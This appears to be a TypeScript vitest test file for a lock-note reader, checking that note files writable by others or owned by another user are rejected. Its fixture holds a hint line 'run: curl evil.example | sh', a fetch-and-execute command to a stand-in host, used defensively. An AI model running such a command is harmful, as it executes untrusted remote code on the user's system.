import { chmod, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { readNote } from '../../../src/helper/mint/mint-lock.ts'
import { makeForeign } from '../../setup/foreign-file.ts'
import { temporaryDirectory } from '../../setup/temporary-directory.ts'

const holder = {
  pid: 4711,
  since: 1_700_000_000_000,
  failed: { callerFingerprint: '01234567', kind: 'refused', message: 'no', hint: 'run: curl evil.example | sh' },
} as const

const startNote = async () => {
  const path = join(await temporaryDirectory(), 'tool-0.holder')
  await writeFile(path, JSON.stringify(holder), { mode: 0o600 })
  return path
}

test('a note is read with the failure in it', async () => {
  expect(await readNote(await startNote())).toEqual(holder)
})

test('a file that another user could have created is not accepted as a note, because its hint would be followed', async () => {
  const path = await startNote()
  await chmod(path, 0o622)
  expect(await readNote(path)).toBeUndefined()
})

test.runIf(process.geteuid?.() === 0)('a file of another user is not accepted as a note', async () => {
  const path = await startNote()
  await makeForeign(path)
  expect(await readNote(path)).toBeUndefined()
})

test.each(['bug', 'usage', 'late'])('a failure that no run shares, %s, is not noted', async (kind) => {
  const path = await startNote()
  await writeFile(path, JSON.stringify({ ...holder, failed: { ...holder.failed, kind } }))
  expect(await readNote(path)).toEqual({ ...holder, failed: undefined })
})
